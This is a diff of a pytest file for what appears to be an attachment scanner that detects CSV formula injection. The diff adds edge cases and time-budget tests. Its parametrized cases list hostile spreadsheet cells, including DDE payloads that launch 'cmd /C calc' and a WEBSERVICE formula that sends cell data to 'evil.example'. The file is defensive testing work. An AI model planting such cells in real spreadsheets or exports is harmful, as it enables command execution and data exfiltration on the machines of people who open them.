@@ -1,13 +1,13 @@
 from __future__ import annotations
 
 import tarfile
-import time
 from pathlib import Path
 
 import pytest
 from support.opened_file import all_text, found, opened, urls
 
 from sekisho.parse.unpack.document import text_file
+from sekisho.parse.unpack.opening import OverLimitError
 
 FILES = Path("../shared/data/attachments/files.tar.xz")
 WORDS = "見積書番号,得意先\r\n1001,株式会社髙橋商店\r\nお振込先は裏面をご覧ください。\r\n"
@@ -43,6 +43,9 @@ def test_text_and_addresses():
         ('=DDE("cmd";"/C calc";"x")', "high"),
         ("-2+3+cmd|' /C calc'!D2", "high"),
         ("=ddeauto|x", "high"),
+        ("=zzz|'" + "b" * 299 + "'!A0", None),
+        ("=zzz|'" + "b" * 298 + "'!A0", "high"),
+        ("x|!,=zzz|'/C calc'!A0", "high"),
         ("=REGISTER.ID(1)", "medium"),
         ("=Call (1)", "medium"),
         ('=WEBSERVICE("https://evil.example/?"&A1)', "medium"),
@@ -51,7 +54,7 @@ def test_text_and_addresses():
 )
 def test_cells_that_are_commands(cell, severity):
     for line in (f"{cell}\n", f"1,山田,{cell},2\n", f"1\t{cell}\n"):
-        assert found(opened(text_file.open_csv, line.encode())) == {"csv-formula": severity}, line
+        assert found(opened(text_file.open_csv, line.encode())).get("csv-formula") == severity, line
 
 
 @pytest.mark.parametrize(
@@ -66,7 +69,10 @@ def test_ordinary_cells_are_not(line):
     assert found(opened(text_file.open_csv, line.encode())) == {}
 
 
-@pytest.mark.parametrize("before", ["İstanbul,", "x,cmd,excel,call (us),import (no),", "cmd\n" * 900])
+MANY = [f"{line}\n" * 1001 for line in ("cmd", "cmd\nx|y!a", "=a|b", "x,call (us)", "İ,cmd,x|y!a")]
+
+
+@pytest.mark.parametrize("before", ["İstanbul,", "x,cmd,excel,call (us),import (no),", "cmd\n" * 900, *MANY])
 def test_cells_behind_others(before):
     assert found(opened(text_file.open_csv, f"{before}=cmd|' /C calc'!A0\n".encode())) == {"csv-formula": "high"}
 
@@ -88,6 +94,11 @@ def test_the_real_csv_with_dde():
     "hostile", ["=", "=cmd", ",=a", "=cmd /c ", "=a|b", "+" * 9 + "cmd ", ',"=', "=a|" + "b" * 290]
 )
 def test_hostile_cells_take_bounded_time(hostile):
-    started = time.process_time()
-    opened(text_file.open_csv, hostile.encode() * (1_000_000 // len(hostile)))
-    assert time.process_time() - started < 15
+    opening = opened(text_file.open_csv, hostile.encode() * (1_000_000 // len(hostile)), seconds=30)
+    assert not opening.budget.hit
+
+
+@pytest.mark.parametrize("hostile", ["=a|\n" + "cmd\n" * 100_000, "=a|!\n" + "|" * 100_000 + "!"])
+def test_what_there_is_no_time_for_is_told(hostile):
+    with pytest.raises(OverLimitError):
+        opened(text_file.open_csv, hostile.encode(), seconds=0)
